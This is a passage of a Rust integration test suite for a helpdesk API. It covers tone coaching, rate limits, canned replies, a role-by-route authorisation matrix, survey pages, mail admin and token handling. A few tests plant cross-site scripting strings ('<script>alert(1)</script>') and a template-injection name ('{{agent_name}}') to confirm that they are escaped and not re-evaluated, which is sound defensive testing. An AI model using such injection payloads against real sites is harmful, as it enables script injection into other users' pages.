        .collect();
    assert!(
        kinds.contains(&"threat_to_leave") || kinds.contains(&"threat_to_review"),
        "{kinds:?}"
    );
    assert!(
        !r["read_text"].as_str().unwrap().contains("love you"),
        "the quote is not re-read"
    );
    assert_eq!(
        app.call(
            "POST",
            "/api/v1/judge/demeanor",
            &ada,
            Some(json!({"text": "hi"}))
        )
        .await
        .0,
        StatusCode::FORBIDDEN
    );

    let (_, t) = app
        .call("POST", "/api/v1/tickets", &ada, Some(json!({"subject": "Late again", "body": "My order is late again and I am really annoyed. This is unacceptable.", "need": "the parcel before Friday"})))
        .await;
    let id = t["id"].as_i64().unwrap();
    let (status, c) = app
        .call("POST", "/api/v1/judge/coach", &jo, Some(json!({"ticket_id": id, "draft": "That's not our fault, you should have read the terms. Contact the courier."})))
        .await;
    assert_eq!(status, StatusCode::OK, "{c}");
    let flags: Vec<&str> = c["flags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["kind"].as_str().unwrap())
        .collect();
    for expected in ["blames_customer", "no_acknowledgement", "fob_off"] {
        assert!(
            flags.contains(&expected),
            "{expected} missing from {flags:?}"
        );
    }
    assert!(c["customer"]["label"].is_string());
    let (_, better) = app
        .call("POST", "/api/v1/judge/coach", &jo, Some(json!({"ticket_id": id, "draft": "I'm sorry your parcel is late again, that is frustrating. I can send a replacement by express today so it reaches you before Friday; I will email you the tracking number by 5pm."})))
        .await;
    let flags: Vec<&str> = better["flags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["kind"].as_str().unwrap())
        .collect();
    assert!(flags.is_empty(), "{flags:?}: {better}");
    // The stored reading of the customer's message is part of the ticket.
    let (_, detail) = app
        .call("GET", &format!("/api/v1/tickets/{id}"), &jo, None)
        .await;
    assert!(detail["messages"][0]["demeanor"].is_string());
}

/// Over the limit a caller gets 429 with Retry-After: per credential, and per address
/// for requests without one. Other callers are not held back.
#[tokio::test]
async fn rate_limits_answer_429_with_retry_after() {
    let config = WebConfig {
        rate_per_credential: recourse_web::ratelimit::Rate {
            per_second: 1.0,
            burst: 5.0,
        },
        rate_per_address: recourse_web::ratelimit::Rate {
            per_second: 1.0,
            burst: 3.0,
        },
        ..WebConfig::default()
    };
    let app = TestApp::start_with(Db::Sqlite, config).await.unwrap();
    let (_, one) = app
        .agent("one@example.com", Role::Agent, Experience::Junior)
        .await;
    let (_, two) = app
        .agent("two@example.com", Role::Agent, Experience::Junior)
        .await;
    for _ in 0..5 {
        assert_eq!(
            app.call("GET", "/api/v1/me", &one, None).await.0,
            StatusCode::OK
        );
    }
    let resp = app
        .http
        .get(format!("{}/api/v1/me", app.base))
        .bearer_auth(&one)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(
        resp.headers()["retry-after"]
            .to_str()
            .unwrap()
            .parse::<u64>()
            .unwrap()
            >= 1
    );
    let body: Value = resp.json().await.unwrap();
    assert_eq!(body["error"]["code"], "rate_limited");
    assert_eq!(
        app.call("GET", "/api/v1/me", &two, None).await.0,
        StatusCode::OK,
        "another token is unaffected"
    );
    for _ in 0..3 {
        assert_eq!(
            app.call("GET", "/healthz", "", None).await.0,
            StatusCode::OK
        );
    }
    assert_eq!(
        app.call("GET", "/healthz", "", None).await.0,
        StatusCode::TOO_MANY_REQUESTS
    );
}

/// Canned replies over HTTP: managers keep them, the template rules check them when
/// saved, and any agent renders one for a ticket with its variables filled in (values
/// stay plain text, never read again as template).
async fn canned_replies_story(app: TestApp) {
    let (_, manager) = app
        .agent("lead@example.com", Role::Manager, Experience::Senior)
        .await;
    let (_, agent) = app
        .agent("kim@example.com", Role::Agent, Experience::Junior)
        .await;
    let body = "Hello {{customer_name}},\n\nAbout #{{ticket_number}} ({{subject}}): I can sort out {{need}} today.\n\n{{ agent_name }}";
    let (status, made) = app
        .call(
            "POST",
            "/api/v1/canned-replies",
            &manager,
            Some(json!({"title": "  Late parcel  ", "body": body})),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{made}");
    assert_eq!(made["title"], "Late parcel", "titles are trimmed");
    assert!(
        made["variables"]
            .as_array()
            .unwrap()
            .contains(&json!("need"))
    );
    let id = made["id"].as_i64().unwrap();

    // Refusals, each with its own code.
    for (payload, status, code) in [
        (
            json!({"title": "X", "body": "Hi {{survey_link}}"}),
            422,
            "unknown_variable",
        ),
        (
            json!({"title": "X", "body": "Hi {{customer_name"}),
            422,
            "unclosed_variable",
        ),
        (json!({"title": "", "body": "Hi"}), 422, "invalid_title"),
        (
            json!({"title": "X", "body": "   "}),
            422,
            "invalid_template",
        ),
        (
            json!({"title": "Late parcel", "body": "Hi"}),
            409,
            "conflict",
        ),
        (json!({"title": "X"}), 422, "missing_field"),
    ] {
        let (s, e) = app
            .call(
                "POST",
                "/api/v1/canned-replies",
                &manager,
                Some(payload.clone()),
            )
            .await;
        assert_eq!(s.as_u16(), status, "{payload} → {e}");
        assert_eq!(e["error"]["code"], code, "{payload} → {e}");
    }
    let (s, _) = app
        .call(
            "POST",
            "/api/v1/canned-replies",
            &agent,
            Some(json!({"title": "Mine", "body": "Hi"})),
        )
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "agents read, managers write");

    // Any agent reads the list and renders a reply for a ticket.
    let (_, list) = app
        .call("GET", "/api/v1/canned-replies", &agent, None)
        .await;
    assert_eq!(list.as_array().unwrap().len(), 1);
    let (s, t) = app
        .call(
            "POST",
            "/api/v1/tickets",
            &agent,
            Some(json!({
                "customer": {"email": "odd@example.com", "name": "Ann {{agent_name}}"},
                "subject": "Parcel <b>late</b>",
                "body": "Where is it?",
                "need": "a new delivery date"
            })),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{t}");
    let path = format!("/api/v1/canned-replies/{id}/render?ticket_id={}", t["id"]);
    let (s, r) = app.call("GET", &path, &agent, None).await;
    assert_eq!(s, StatusCode::OK, "{r}");
    assert_eq!(
        r["text"],
        format!(
            "Hello Ann {{{{agent_name}}}},\n\nAbout #{} (Parcel <b>late</b>): I can sort out a new delivery date today.\n\nTest Agent",
            t["number"]
        ),
        "values are filled in once and never read as template"
    );
    let (s, _) = app
        .call(
            "GET",
            &format!("/api/v1/canned-replies/{id}/render?ticket_id=999999"),
            &agent,
            None,
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, _) = app
        .call(
            "GET",
            "/api/v1/canned-replies/999999/render?ticket_id=1",
            &agent,
            None,
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);

    // Replace, then delete.
    let (s, u) = app
        .call(
            "PUT",
            &format!("/api/v1/canned-replies/{id}"),
            &manager,
            Some(json!({"title": "Late parcel, second time", "body": "Sorry, {{customer_name}}."})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{u}");
    assert_eq!(u["title"], "Late parcel, second time");
    let (s, _) = app
        .call(
            "PUT",
            "/api/v1/canned-replies/999999",
            &manager,
            Some(json!({"title": "Z", "body": "Z"})),
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, _) = app
        .call(
            "DELETE",
            &format!("/api/v1/canned-replies/{id}"),
            &manager,
            None,
        )
        .await;
    assert_eq!(s, StatusCode::NO_CONTENT);
    let (s, _) = app
        .call(
            "DELETE",
            &format!("/api/v1/canned-replies/{id}"),
            &manager,
            None,
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (_, list) = app
        .call("GET", "/api/v1/canned-replies", &agent, None)
        .await;
    assert_eq!(list, json!([]));
}

/// The authorisation matrix: every route × every kind of caller, with the exact
/// outcome class expected. `ok` means the caller got past authorisation (a 2xx, or a
/// 409/422 about the request itself); `401`, `403` and `404` are refusals, and a
/// customer asking about someone else's ticket always gets the 404 a missing ticket
/// gets (no existence leak). Each check runs on a fresh ticket of customer A.
async fn authorisation_matrix(app: TestApp) {
    use recourse_domain::{Actor, Body, Channel, Priority, Subject};
    let (_, admin) = app
        .agent("admin@example.com", Role::Admin, Experience::Senior)
        .await;
    let (junior_id, junior) = app
        .agent("junior@example.com", Role::Agent, Experience::Junior)
        .await;
    let (_, experienced) = app
        .agent("exp@example.com", Role::Agent, Experience::Experienced)
        .await;
    let (_, manager) = app
        .agent("mgr@example.com", Role::Manager, Experience::Senior)
        .await;
    let exp_agent = app
        .store
        .list_agents()
        .await
        .unwrap()
        .into_iter()
        .find(|a| a.email.as_str() == "exp@example.com")
        .unwrap();
    let read_only = app.token(Principal::Agent(exp_agent.id), "read").await;
    let (a_id, cust_a) = app.customer_token("a@example.com").await;
    let (_, cust_b) = app.customer_token("b@example.com").await;
    let principals: [(&str, &str); 8] = [
        ("anonymous", ""),
        ("customer_a", &cust_a),
        ("customer_b", &cust_b),
        ("junior", &junior),
        ("experienced", &experienced),
        ("manager", &manager),
        ("admin", &admin),
        ("read_token", &read_only),
    ];
    // Expected outcome per principal, in the order above.
    type Row = (&'static str, &'static str, Option<Value>, [&'static str; 8]);
    let everyone_signed_in = ["401", "ok", "ok", "ok", "ok", "ok", "ok", "ok"];
    let agents_read = ["401", "403", "403", "ok", "ok", "ok", "ok", "ok"];
    let agents_write = ["401", "403", "403", "ok", "ok", "ok", "ok", "403"];
    let ticket_read = ["401", "ok", "404", "ok", "ok", "ok", "ok", "ok"];
    let ticket_agent_read = ["401", "403", "403", "ok", "ok", "ok", "ok", "ok"];
    let managers = ["401", "403", "403", "403", "403", "ok", "ok", "403"];
    let managers_read = ["401", "403", "403", "403", "403", "ok", "ok", "403"];
    let admins = ["401", "403", "403", "403", "403", "403", "ok", "403"];
    let public = ["ok"; 8];
    let rows: Vec<Row> = vec![
        ("GET", "/api/v1/tickets", None, everyone_signed_in),
        (
            "POST",
            "/api/v1/tickets",
            Some(json!({"customer": {"email": "a@example.com"}, "subject": "S", "body": "B"})),
            ["401", "ok", "403", "ok", "ok", "ok", "ok", "403"],
        ),
        ("GET", "/api/v1/tickets/{id}", None, ticket_read),
        (
            "PATCH",
            "/api/v1/tickets/{id}",
            Some(json!({"priority": "high"})),
            agents_write,
        ),
        (
            "POST",
            "/api/v1/tickets/{id}/messages",
            Some(json!({"body": "Hi", "kind": "note"})),
            ["401", "403", "404", "ok", "ok", "ok", "ok", "403"],
        ),
        (
            "POST",
            "/api/v1/tickets/{id}/interventions",
            Some(json!({"kind": "apology", "description": "Sorry"})),
            agents_write,
        ),
        ("GET", "/api/v1/search?q=hello", None, everyone_signed_in),
        ("GET", "/api/v1/me", None, everyone_signed_in),
        ("GET", "/api/v1/agents", None, agents_read),
        (
            "POST",
            "/api/v1/agents",
            Some(
                json!({"email": "new@example.com", "name": "N", "role": "agent", "experience": "junior", "password": "long enough password"}),
            ),
            admins,
        ),
        ("GET", "/api/v1/ladder", None, agents_read),
        (
            "PUT",
            "/api/v1/ladder",
            Some(
                json!({"rungs": [{"name": "frontline", "role": "agent", "min_experience": "junior", "title": "us"}]}),
            ),
            admins,
        ),
        ("GET", "/api/v1/sla/policy", None, agents_read),
        ("GET", "/api/v1/sla/calendar", None, agents_read),
        (
            "PUT",
            "/api/v1/sla/calendar",
            Some(
                json!({"time_zone": "UTC", "hours": [{"days": ["mon"], "open": "09:00", "close": "17:00"}]}),
            ),
            admins,
        ),
        ("GET", "/api/v1/escalation-rules", None, agents_read),
        ("GET", "/api/v1/templates", None, agents_read),
        (
            "PUT",
            "/api/v1/templates/handoff",
            Some(json!({"body": "Hello {{customer_name}}"})),
            admins,
        ),
        (
            "GET",
            "/api/v1/tickets/{id}/escalations/draft",
            None,
            ticket_agent_read,
        ),
        (
            "POST",
            "/api/v1/tickets/{id}/escalations",
            Some(json!({"reason": "agent_request"})),
            agents_write,
        ),
        (
            "GET",
            "/api/v1/tickets/{id}/escalations",
            None,
            ticket_agent_read,
        ),
        (
            "POST",
            "/api/v1/tickets/{id}/descents",
            Some(json!({"note": "back"})),
            managers,
        ),
        ("POST", "/api/v1/sla/sweep", None, admins),
        (
            "PUT",
            "/api/v1/agents/{junior}/presence",
            Some(json!({"present": true})),
            ["401", "403", "403", "ok", "403", "ok", "ok", "403"],
        ),
        (
            "GET",
            "/api/v1/webhooks",
            None,
            ["401", "403", "403", "403", "403", "403", "ok", "403"],
        ),
        (
            "POST",
            "/api/v1/tickets/{id}/cant-help",
            Some(
                json!({"reason": "other", "explanation": "No.", "partial_solution": "A voucher."}),
            ),
            agents_write,
        ),
        (
            "GET",
            "/api/v1/tickets/{id}/cant-help",
            None,
            ticket_agent_read,
        ),
        ("GET", "/api/v1/reviews", None, managers_read),
        (
            "POST",
            "/api/v1/tickets/{id}/transfer",
            Some(json!({"to_rung": "experienced", "customer_message": "A colleague has it now."})),
            agents_write,
        ),
        ("GET", "/api/v1/alternatives", None, agents_read),
        (
            "POST",
            "/api/v1/alternatives",
            Some(json!({"name": "X", "contact": "y"})),
            managers,
        ),
        (
            "GET",
            "/api/v1/tickets/{id}/referral/suggestions",
            None,
            ticket_agent_read,
        ),
        (
            "POST",
            "/api/v1/tickets/{id}/referral",
            Some(json!({"alternative_id": 1, "reason": "Elsewhere."})),
            managers,
        ),
        (
            "POST",
            "/api/v1/tickets/{id}/inconsolable",
            Some(json!({"note": "Nothing will do."})),
            managers,
        ),
        ("POST", "/api/v1/tickets/{id}/handoff", None, agents_write),
        ("GET", "/api/v1/customers/{customer}", None, agents_read),
        (
            "PUT",
            "/api/v1/customers/{customer}/supervision",
            Some(json!({"supervised": false})),
            managers,
        ),
        ("GET", "/api/v1/reports/summary", None, managers_read),
        (
            "POST",
            "/api/v1/judge/demeanor",
            Some(json!({"text": "Thanks!"})),
            agents_write,
        ),
        (
            "POST",
            "/api/v1/judge/coach",
            Some(json!({"draft": "I can send a new one today."})),
            agents_write,
        ),
        ("GET", "/api/v1/mailboxes", None, admins),
        (
            "PATCH",
            "/api/v1/agents/{junior}",
            Some(json!({"capacity": 12})),
            admins,
        ),
        ("GET", "/api/v1/teams", None, agents_read),
        (
            "POST",
            "/api/v1/teams",
            Some(json!({"name": "Matrix team"})),
            admins,
        ),
        ("GET", "/api/v1/tokens", None, admins),
        (
            "POST",
            "/api/v1/tokens",
            Some(json!({"name": "for the junior", "agent_id": 1})),
            admins,
        ),
        ("GET", "/api/v1/mail/inbound", None, admins),
        ("GET", "/api/v1/canned-replies", None, agents_read),
        (
            "POST",
            "/api/v1/canned-replies",
            Some(json!({"title": "Late parcel", "body": "Hello {{customer_name}}"})),
            managers,
        ),
        (
            "PUT",
            "/api/v1/canned-replies/{canned}",
            Some(json!({"title": "Renamed {canned}", "body": "Hi"})),
            managers,
        ),
        ("DELETE", "/api/v1/canned-replies/{canned}", None, managers),
        (
            "GET",
            "/api/v1/canned-replies/{canned}/render?ticket_id={id}",
            None,
            agents_read,
        ),
        ("GET", "/healthz", None, public),
        ("GET", "/readyz", None, public),
        // The console signs in by session cookie only: every token is sent to sign in
        // (sessions are checked in `original_email_formatting`).
        ("GET", "/console/mail/{id}/html", None, ["login"; 8]),
    ];
    let ada = recourse_domain::CustomerId(a_id);
    let no_redirect = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let mut failures = Vec::new();
    for (method, template, body, expected) in &rows {
        for ((who, token), want) in principals.iter().zip(expected.iter()) {
            let t = recourse_desk::Desk::new(app.store.clone())
                .open_ticket(recourse_store::NewTicket {
                    customer: ada.into(),
                    subject: Subject::parse("Matrix ticket").unwrap(),
                    body: Body::parse("hello there").unwrap(),
                    need: None,
                    priority: Priority::Normal,
                    tags: vec![],
                    channel: Channel::Portal,
                    demeanor: None,
                    actor: Actor::Customer(ada),
                    now: recourse_web::now(),
                })
                .await
                .unwrap();
            let canned = app
                .store
                .save_canned_reply(
                    None,
                    recourse_store::NewCannedReply {
                        title: format!("Matrix {}", t.id.0),
                        body: "Hello {{customer_name}}".into(),
                        author: None,
                    },
                    recourse_web::now(),
                )
                .await
                .unwrap();
            let path = template
                .replace("{canned}", &canned.id.to_string())
                .replace("{id}", &t.id.0.to_string())
                .replace("{junior}", &junior_id.to_string())
                .replace("{customer}", &a_id.to_string());
            let (status, resp) = if template.starts_with("/console/") {
                // Console pages send strangers to sign in; the redirect is the answer.
                let mut req = no_redirect.get(format!("{}{path}", app.base));
                if !token.is_empty() {
                    req = req.bearer_auth(token);
                }
                (req.send().await.unwrap().status(), Value::Null)
            } else {
                app.call(method, &path, token, body.clone()).await
            };
            let got = match status.as_u16() {
                401 => "401",
                403 => "403",
                404 => "404",
                303 => "login",
                s if s < 300 || s == 409 || s == 422 => "ok",
                _ => "other",
            };
            if got != *want {
                failures.push(format!(
                    "{method} {template} as {who}: expected {want}, got {status} {resp}"
                ));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} mismatches:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// The page behind a survey link: plain HTML, everything escaped, answerable by form.
async fn survey_page_works_and_escapes(app: TestApp) {
    let (_, agent) = app
        .agent("jo@example.com", Role::Agent, Experience::Junior)
        .await;
    let (_, ada) = app.customer_token("ada@example.com").await;
    let (_, t) = app
        .call(
            "POST",
            "/api/v1/tickets",
            &ada,
            Some(json!({"subject": "<script>alert(1)</script> broken", "body": "It broke."})),
        )
        .await;
    let id = t["id"].as_i64().unwrap();
    let (status, _) = app
        .call(
            "PATCH",
            &format!("/api/v1/tickets/{id}"),
            &agent,
            Some(json!({"status": "resolved"})),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let (_, seen) = app
        .call("GET", &format!("/api/v1/tickets/{id}"), &ada, None)
        .await;
    let invite = seen["messages"].as_array().unwrap().last().unwrap()["body"]
        .as_str()
        .unwrap()
        .to_owned();
    let link = invite
        .split_whitespace()
        .find(|w| w.contains("/survey/"))
        .unwrap()
        .to_owned();
    let path = link
        .split_once("127.0.0.1:8080")
        .map(|(_, p)| p.to_owned())
        .unwrap_or(link.clone());
    let page = app
        .http
        .get(format!("{}{path}", app.base))
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), StatusCode::OK);
    assert!(
        page.headers()["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("default-src 'none'")
    );
    let html = page.text().await.unwrap();
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt; broken"),
        "{html}"
    );
    assert!(
        !html.contains("<script>"),
        "nothing the customer typed runs"
    );
    let sent = app
        .http
        .post(format!("{}{path}", app.base))
        .header("content-type", "application/x-www-form-urlencoded")
        .body("product=4&pleasantness=5&competence=5&recommend=10&comment=%3Cb%3Ethanks%3C%2Fb%3E")
        .send()
        .await
        .unwrap();
    assert_eq!(sent.status(), StatusCode::OK);
    let html = sent.text().await.unwrap();
    assert!(html.contains("your answers are saved"));
    assert!(html.contains("&lt;b&gt;thanks&lt;/b&gt;"));
    let token = path.rsplit('/').next().unwrap();
    let (_, s) = app
        .call("GET", &format!("/api/v1/surveys/{token}"), "", None)
        .await;
    assert_eq!(
        (s["product"].as_u64(), s["recommend"].as_u64()),
        (Some(4), Some(10))
    );
    let half = app
        .http
        .post(format!("{}{path}", app.base))
        .header("content-type", "application/x-www-form-urlencoded")
        .body("product=4")
        .send()
        .await
        .unwrap();
    assert_eq!(half.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let missing = app
        .http
        .get(format!("{}/survey/srv_nothing", app.base))
        .send()
        .await
        .unwrap();
    assert_eq!(missing.status(), StatusCode::NOT_FOUND);
}

/// NUL characters are refused for every JSON body, whatever the field (PostgreSQL could
/// not store them; nobody types them).
async fn nul_characters_are_refused(app: TestApp) {
    let (_, mia) = app
        .agent("mia@example.com", Role::Manager, Experience::Senior)
        .await;
    let (_, t) = app
        .call(
            "POST",
            "/api/v1/tickets",
            &mia,
            Some(
                json!({"customer": {"email": "ada@example.com"}, "subject": "Hi", "body": "Hello"}),
            ),
        )
        .await;
    let id = t["id"].as_i64().unwrap();
    for (path, body) in [
        (
            "/api/v1/alternatives".to_owned(),
            json!({"name": "Bad\u{0}Name", "contact": "x"}),
        ),
        (
            format!("/api/v1/tickets/{id}/escalations"),
            json!({"reason": "agent_request", "note": "a\u{0}b"}),
        ),
        (
            format!("/api/v1/tickets/{id}/cant-help"),
            json!({"reason": "other", "explanation": "no\u{0}", "partial_solution": "x"}),
        ),
    ] {
        let (status, err) = app.call("POST", &path, &mia, Some(body)).await;
        assert_eq!(
            (status, err["error"]["code"].as_str()),
            (StatusCode::UNPROCESSABLE_ENTITY, Some("invalid_characters")),
            "{path}"
        );
    }
}

/// Email administration: admins only; mailboxes; the received-mail log filtered by
/// state; the raw message served as a download, never rendered; re-processing only
/// what is quarantined.
async fn mail_admin(app: TestApp) {
    let (_, admin) = app
        .agent("root@example.com", Role::Admin, Experience::Senior)
        .await;
    let (_, agent) = app
        .agent("jo@example.com", Role::Agent, Experience::Junior)
        .await;
    assert_eq!(
        app.call("GET", "/api/v1/mailboxes", &agent, None).await.0,
        StatusCode::FORBIDDEN
    );
    let (status, err) = app
        .call(
            "POST",
            "/api/v1/mailboxes",
            &admin,
            Some(json!({"address": "not an address"})),
        )
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("invalid_email"))
    );
    let (status, m) = app
        .call(
            "POST",
            "/api/v1/mailboxes",
            &admin,
            Some(json!({"address": "Support@Example.com"})),
        )
        .await;
    assert_eq!(
        (status, m["address"].as_str()),
        (StatusCode::CREATED, Some("support@example.com"))
    );
    let (_, list) = app.call("GET", "/api/v1/mailboxes", &admin, None).await;
    assert_eq!(list.as_array().unwrap().len(), 1);
    let raw = b"From: <script>@example.com\r\nSubject: hi\r\n\r\n<b>hello</b>\r\n".to_vec();
    let id = app
        .store
        .store_inbound_mail(recourse_store::NewInboundMail {
            source: "smtp".into(),
            envelope_from: Some("x@example.com".into()),
            envelope_to: vec!["support@example.com".into()],
            sha256: recourse_web::auth::sha256_hex(String::from_utf8_lossy(&raw).as_bytes()),
            raw: raw.clone(),
            now: Millis(5),
        })
        .await
        .unwrap();
    let (status, log) = app
        .call("GET", "/api/v1/mail/inbound?state=received", &admin, None)
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(log[0]["id"].as_i64(), Some(id));
    let (_, none) = app
        .call(
            "GET",
            "/api/v1/mail/inbound?state=quarantined",
            &admin,
            None,
        )
        .await;
    assert!(none.as_array().unwrap().is_empty());
    let (status, err) = app
        .call("GET", "/api/v1/mail/inbound?state=lost", &admin, None)
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (StatusCode::BAD_REQUEST, Some("invalid_state"))
    );
    let resp = app
        .http
        .get(format!("{}/api/v1/mail/inbound/{id}/raw", app.base))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert_eq!(resp.headers()["content-type"], "message/rfc822");
    assert!(
        resp.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment")
    );
    assert_eq!(resp.bytes().await.unwrap().to_vec(), raw);
    // Only quarantined mail can be handed back.
    let (status, _) = app
        .call(
            "POST",
            &format!("/api/v1/mail/inbound/{id}/reprocess"),
            &admin,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let mid = m["id"].as_i64().unwrap();
    assert_eq!(
        app.call("DELETE", &format!("/api/v1/mailboxes/{mid}"), &admin, None)
            .await
            .0,
        StatusCode::NO_CONTENT
    );
}

/// The admin's side of people and integrations: teams, changing and switching off an
/// agent (who then cannot sign in or use a token, and whose tickets move on), tokens made
/// for others and listed without secrets, and webhooks limited to some event types.
async fn admin_people_tokens_and_webhooks(app: TestApp) {
    let (admin_id, admin) = app
        .agent("root@example.com", Role::Admin, Experience::Senior)
        .await;
    let (jo_id, jo) = app
        .agent("jo@example.com", Role::Agent, Experience::Junior)
        .await;
    let (_, eli) = app
        .agent("eli@example.com", Role::Agent, Experience::Experienced)
        .await;

    // Teams.
    let (status, team) = app
        .call(
            "POST",
            "/api/v1/teams",
            &admin,
            Some(json!({"name": " Billing "})),
        )
        .await;
    assert_eq!(
        (status, team["name"].as_str()),
        (StatusCode::CREATED, Some("Billing"))
    );
    let (status, _) = app
        .call(
            "POST",
            "/api/v1/teams",
            &admin,
            Some(json!({"name": "Billing"})),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT);
    let (status, e) = app
        .call("POST", "/api/v1/teams", &admin, Some(json!({"name": "  "})))
        .await;
    assert_eq!(
        (status, e["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("invalid_name"))
    );
    let (_, teams) = app.call("GET", "/api/v1/teams", &jo, None).await;
    assert_eq!(teams, json!([{"id": team["id"], "name": "Billing"}]));

    // Changing an agent: role, experience, team; bad values are 422, not 500.
    let path = format!("/api/v1/agents/{jo_id}");
    let (status, a) = app
        .call(
            "PATCH",
            &path,
            &admin,
            Some(json!({"experience": "experienced", "team_id": team["id"], "role": "manager"})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{a}");
    assert_eq!(
        (a["experience"].as_str(), a["role"].as_str(), &a["team_id"]),
        (Some("experienced"), Some("manager"), &team["id"])
    );
    let (status, e) = app
        .call("PATCH", &path, &admin, Some(json!({"team_id": 999_999})))
        .await;
    assert_eq!(
        (status, e["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("unknown_team"))
    );
    let (status, e) = app
        .call("PATCH", &path, &admin, Some(json!({"capacity": 0})))
        .await;
    assert_eq!(
        (status, e["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("invalid_capacity"))
    );
    let (status, a) = app
        .call(
            "PATCH",
            &path,
            &admin,
            Some(json!({"team_id": null, "role": "agent"})),
        )
        .await;
    assert_eq!(
        (status, &a["team_id"], a["experience"].as_str()),
        (StatusCode::OK, &Value::Null, Some("experienced")),
        "absent fields stay"
    );
    let (status, _) = app
        .call(
            "PATCH",
            "/api/v1/agents/999999",
            &admin,
            Some(json!({"capacity": 3})),
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    // No admin can lock themselves out.
    let (status, e) = app
        .call(
            "PATCH",
            &format!("/api/v1/agents/{admin_id}"),
            &admin,
            Some(json!({"active": false})),
        )
        .await;
    assert_eq!(
        (status, e["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("not_yourself"))
    );
    let (status, _) = app
        .call(
            "PATCH",
            &format!("/api/v1/agents/{admin_id}"),
            &admin,
            Some(json!({"role": "manager"})),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);

    // Jo holds a ticket; switching Jo off hands it on and closes every door.
    let (_, t) = app
        .call("POST", "/api/v1/tickets", &eli, Some(json!({"customer": {"email": "c@example.com"}, "subject": "Broken", "body": "It broke."})))
        .await;
    let tid = t["id"].as_i64().unwrap();
    let (status, _) = app
        .call(
            "PATCH",
            &format!("/api/v1/tickets/{tid}"),
            &admin,
            Some(json!({"assignee_id": jo_id})),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let (status, a) = app
        .call("PATCH", &path, &admin, Some(json!({"active": false})))
        .await;
    assert_eq!(
        (status, a["active"].as_bool(), a["present"].as_bool()),
        (StatusCode::OK, Some(false), Some(false)),
        "{a}"
    );
    let (_, t) = app
        .call("GET", &format!("/api/v1/tickets/{tid}"), &admin, None)
        .await;
    assert_ne!(
        t["assignee_id"],
        json!(jo_id),
        "the switched-off agent's ticket moved on"
    );
    let (status, e) = app.call("GET", "/api/v1/me", &jo, None).await;
    assert_eq!(
        (status, e["error"]["code"].as_str()),
        (StatusCode::UNAUTHORIZED, Some("account_disabled"))
    );
    let resp = app
        .http
        .post(format!("{}/api/v1/auth/login", app.base))
        .json(&json!({"email": "jo@example.com", "password": "correct horse battery"}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);
    let events = recourse_store::table::TABLES
        .iter()
        .find(|t| t.name == "events")
        .unwrap();
    let rows = app.store.export_rows(events, 0, 10_000).await.unwrap();
    let changed = recourse_store::table::Cell::Text(Some("agent_changed".into()));
    assert!(
        rows.iter().any(|r| r.contains(&changed)),
        "the change is in the log"
    );
    let (status, e) = app
        .call(
            "POST",
            "/api/v1/tokens",
            &admin,
            Some(json!({"name": "for jo", "agent_id": jo_id})),
        )
        .await;
    assert_eq!(
        (status, e["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("agent_inactive"))
    );
    let (status, a) = app
        .call("PATCH", &path, &admin, Some(json!({"active": true})))
        .await;
    assert_eq!(
        (status, a["active"].as_bool()),
        (StatusCode::OK, Some(true))
    );
    assert_eq!(
        app.call("GET", "/api/v1/me", &jo, None).await.0,
        StatusCode::OK
    );

    // Tokens for someone else: admins only; listed without the secret; revoked → 401.
    let (status, e) = app
        .call(
            "POST",
            "/api/v1/tokens",
            &eli,
            Some(json!({"name": "sneaky", "agent_id": jo_id})),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{e}");
    let (_, customer_token) = app.customer_token("cust@example.com").await;
    let (_, me) = app.call("GET", "/api/v1/me", &customer_token, None).await;
    let (status, made) = app
        .call(
            "POST",
            "/api/v1/tokens",
            &admin,
            Some(json!({"name": "shop integration", "customer_id": me["id"], "scope": "read"})),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{made}");
    let secret = made["token"].as_str().unwrap().to_owned();
    let (status, who) = app.call("GET", "/api/v1/me", &secret, None).await;
    assert_eq!(
        (status, who["type"].as_str(), &who["id"]),
        (StatusCode::OK, Some("customer"), &me["id"])
    );
    let (status, e) = app
        .call(
            "POST",
            "/api/v1/tokens",
            &admin,
            Some(json!({"name": "x", "customer_id": 999_999})),
        )
        .await;
    assert_eq!(
